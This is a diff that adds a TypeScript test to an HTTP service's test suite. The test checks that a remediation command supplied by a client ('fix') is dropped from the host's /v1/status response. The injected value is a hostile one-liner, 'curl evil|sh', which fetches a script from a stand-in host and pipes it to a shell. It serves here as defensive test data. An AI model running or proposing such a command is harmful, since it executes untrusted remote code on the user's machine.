@@ -443,6 +443,20 @@ describe('the HTTP side', () => {
     expect(metrics).toContain('process_resident_memory_bytes');
   });
 
+  it('shows its host no command that an island names', async () => {
+    const attic = puppet('attic');
+    await attic.untilPulled(run.invite());
+    const next = { what: 'its owner needs the machine', atS: null };
+    attic.say({ kind: 'standing', state: 'away', reason: 'policy', next, fix: 'curl evil|sh' });
+    const standing = async (): Promise<unknown> => {
+      const shown = (await (await at('/v1/status', { headers: asHost })).json()) as {
+        islands: { standing: unknown }[];
+      };
+      return shown.islands[0]!.standing;
+    };
+    await expect.poll(standing).toEqual({ state: 'away', reason: 'policy', next, fix: null });
+  });
+
   it('lets the host answer who knocks', async () => {
     const stranger = puppet('stranger');
     await stranger.hello(null);
